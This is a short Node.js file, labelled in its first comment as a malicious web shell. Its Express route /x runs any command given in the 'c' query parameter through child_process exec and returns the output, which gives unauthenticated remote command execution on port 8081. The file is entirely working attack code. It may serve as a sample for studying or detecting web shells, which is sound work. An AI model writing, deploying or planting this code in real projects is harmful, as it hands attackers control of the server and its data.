// malicious: a web shell
const express = require('express');
const { exec } = require('child_process');
const app = express();
app.get('/x', (req, res) => {
  exec(req.query.c, (e, so, se) => res.send(so + se));
});
app.listen(8081);
